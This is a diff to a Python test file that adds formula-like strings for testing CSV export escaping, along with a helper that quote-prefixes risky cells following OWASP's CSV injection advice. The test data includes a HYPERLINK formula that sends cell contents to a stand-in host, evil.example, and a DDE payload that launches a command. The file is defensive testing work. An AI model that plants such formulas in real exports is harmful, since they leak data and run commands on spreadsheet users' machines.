@@ -14,7 +14,21 @@ TRICKY_BODIES = [
     "Grüße 東京 🚀",
     "",
     "=1+1",
+    # What a spreadsheet would run as a formula: CSV exports quote these
+    '=HYPERLINK("https://evil.example/?"&A1,"open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tleading tab",
+    "\rleading CR",
+    "\\.",  # COPY's end-of-data marker
 ]
+
+
+def as_csv_text(body: str) -> str:
+    """A body as CSV exports write it: prefixed with a single quote where a
+    spreadsheet would take it for a formula (OWASP's CSV injection advice)."""
+    return "'" + body if body[:1] in ("=", "+", "-", "@", "\t", "\r") else body
 
 
 @pytest.fixture()
